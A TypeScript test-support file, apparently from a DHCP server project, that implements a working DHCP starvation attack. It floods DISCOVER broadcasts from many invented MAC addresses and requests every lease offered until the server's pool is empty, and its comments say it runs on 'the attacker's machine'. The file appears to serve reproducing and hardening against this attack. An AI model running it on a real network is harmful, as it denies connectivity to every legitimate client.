import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { message, packetOf } from '../../src/dhcp/testdata/room.ts'
import { encode } from '../../src/dhcp/packet.ts'
import { formatIpv4 } from '../../src/network/index.ts'

const batch = 100

/** 06:xx:xx:xx:xx:xx, a locally administered address for each number. */
const inventedMac = (n: number): string =>
  ['06', '5a', ...[n >>> 24, n >>> 16, n >>> 8, n].map((byte) => (byte & 255).toString(16).padStart(2, '0'))].join(':')

/**
 * What emptied a pool with one laptop in other rooms: a DISCOVER from another invented machine each time, and a REQUEST
 * of whatever is offered. To be run on the attacker's machine (`inside`).
 * @returns how many offers were taken up
 */
export async function starve(
  broadcast: string,
  machines: number,
  serverId: string,
  whenRead: () => Promise<void>,
): Promise<number> {
  const socket = createSocket('udp4')
  socket.bind(68, '0.0.0.0')
  await once(socket, 'listening')
  socket.setBroadcast(true)
  let taken = 0
  socket.on('message', (datagram) => {
    const packet = packetOf(datagram)
    // Offers to others are none of its business.
    if (packet.chaddr[0] !== 6 || packet.chaddr[1] !== 0x5a || packet.options.get(53)?.[0] !== 2) return
    taken++
    const mac = Buffer.from(packet.chaddr.subarray(0, 6))
      .toString('hex')
      .replace(/..(?=.)/g, '$&:')
    const request = message('request', { mac, xid: packet.xid, requested: formatIpv4(packet.yiaddr), serverId })
    socket.send(encode(request, 548).datagram, 67, broadcast)
  })
  for (let n = 0; n < machines; n += batch) {
    const sent = Array.from({ length: Math.min(batch, machines - n) }, (_, each) => {
      const { datagram } = encode(message('discover', { mac: inventedMac(n + each), xid: n + each + 1 }), 548)
      return new Promise<void>((resolve, reject) =>
        socket.send(datagram, 67, broadcast, (error) => (error ? reject(error) : resolve())),
      )
    })
    await Promise.all(sent)
    await whenRead()
  }
  socket.close()
  return taken
}
